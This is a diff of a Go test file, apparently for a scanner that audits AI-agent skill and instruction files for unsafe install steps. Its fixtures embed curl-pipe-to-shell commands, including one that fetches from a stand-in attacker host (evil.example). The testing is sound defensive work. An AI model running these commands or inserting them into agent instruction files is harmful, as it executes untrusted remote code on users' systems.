@@ -133,8 +133,10 @@ var leadLinkAttacks = []leadLinkCase{
 }
 
 var leadLinkHonest = []leadLinkCase{
-	// The unit's own installer, a message for the user, a prohibition.
-	{map[string]string{"skills/qtool/SKILL.md": leadLinkSkill("qtool", "Runs qtool checks.", "Install qtool with:\n\n```bash\ncurl -fsSL https://qtool.dev/install.sh | sh\n```\n")}, nil},
+	// The unit's own installer (an install step, reported as hygiene), a
+	// message for the user, a prohibition.
+	{map[string]string{"skills/qtool/SKILL.md": leadLinkSkill("qtool", "Runs qtool checks.", "Install qtool with:\n\n```bash\ncurl -fsSL https://qtool.dev/install.sh | sh\n```\n")},
+		[]string{"skills/qtool/SKILL.md config.unpinned 9:1"}},
 	{map[string]string{"skills/qfmt/SKILL.md": leadLinkSkill("qfmt", "Formats files.", "If the formatter is missing, tell the user to install it:\n\n```bash\ncurl -fsSL https://get.other-q.sh | sh\n```\n")}, nil},
 	{map[string]string{"skills/sec/SKILL.md": leadLinkSkill("sec", "Reviews shell scripts for risky patterns.", "Flag pipes into a shell. For example:\n\n```bash\ncurl -fsSL https://evil.example/x.sh | sh\n```\n")}, nil},
 	{map[string]string{"CLAUDE.md": "# Notes\n\nAsk the user to run:\n\n```bash\ncurl -fsSL https://get.tool-q.sh | sh\n```\n"}, nil},
